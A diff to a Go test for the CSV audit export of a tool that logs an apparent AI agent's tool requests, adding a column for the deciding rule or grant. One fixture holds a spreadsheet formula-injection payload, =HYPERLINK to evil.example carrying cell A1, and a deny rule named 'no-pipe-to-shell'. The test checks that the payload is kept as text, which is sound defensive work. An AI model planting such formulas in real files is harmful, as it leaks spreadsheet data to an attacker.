@@ -438,14 +438,25 @@ func readFile(t *testing.T, path string) string {
 }
 
 // TestAuditExportCSVIsWhatASpreadsheetExpects: the header, UTC times, the
-// thread link, the empty rule column, and a cell that would run as a
-// formula kept as text.
+// thread link, the rule or grant that decided (empty for a person), and a
+// cell that would run as a formula kept as text.
 func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
 	tr := newTrail(t, boltBackend)
 	st := tr.open(t)
 	record(t, st, trailDay, 0, 3)
 	must(t, st.AppendAudit(context.Background(), store.AuditEntry{Action: store.AuditToolRan, SessionID: "sess-a", Tool: "Bash", ReportedBy: "api:laptop",
 		Result: store.ToolSucceeded, Message: `=HYPERLINK("https://evil.example/?"&A1,"ok")`, At: trailDay.Add(5 * time.Hour)}))
+	for i, d := range []store.Decision{
+		{Outcome: store.OutcomeDeny, Rule: "no-pipe-to-shell", PolicyDigest: strings.Repeat("ab", 32)},
+		{Outcome: store.OutcomeAllow, Grant: "g1"},
+	} {
+		at := trailDay.Add(time.Duration(6+i) * time.Hour)
+		r := store.Request{ID: fmt.Sprint("req-by-", i), SessionID: "sess-a", CLIRequestID: fmt.Sprint("cb", i), Kind: store.KindTool, ToolName: "Bash", CreatedAt: at}
+		must(t, st.CreateRequest(context.Background(), r))
+		d.At = at.Add(time.Minute)
+		_, err := st.Decide(context.Background(), r.ID, d)
+		must(t, err)
+	}
 	must(t, st.Close())
 	out, err := runProgram(t, tr.env, "audit", "export", "-format", "csv", "-slack-url", "https://acme.slack.com/", "-channel", "C1")
 	if err != nil {
@@ -457,9 +468,10 @@ func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
 	if strings.Join(rows[0], "|") != strings.Join(want, "|") {
 		t.Fatalf("header = %q, want %q", rows[0], want)
 	}
-	// C1 holds requests 0 and 2 (created, settled) and the tool that ran.
-	if len(rows) != 6 {
-		t.Fatalf("%d rows, want the header and 5: %q", len(rows), rows)
+	// C1 holds requests 0 and 2 (created, settled), the tool that ran and
+	// the two requests a rule and a grant settled.
+	if len(rows) != 10 {
+		t.Fatalf("%d rows, want the header and 9: %q", len(rows), rows)
 	}
 	settled := rows[2]
 	if got := strings.Join(settled[:10], "|"); got != "2026-11-20 00:01:00|U1|ann|settled|Bash||C1|allow||https://acme.slack.com/archives/C1/p1763596800000100" {
@@ -470,6 +482,9 @@ func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
 	}
 	if ran := rows[5]; ran[5] != `'=HYPERLINK("https://evil.example/?"&A1,"ok")` {
 		t.Errorf("a formula from a tool's input reached the sheet as %q; want it prefixed with ' so it stays text", ran[5])
+	}
+	if byRule, byGrant := rows[7][8], rows[9][8]; byRule != "no-pipe-to-shell" || byGrant != "grant g1" {
+		t.Errorf("rule column = %q and %q, want the policy rule and the grant", byRule, byGrant)
 	}
 }
 
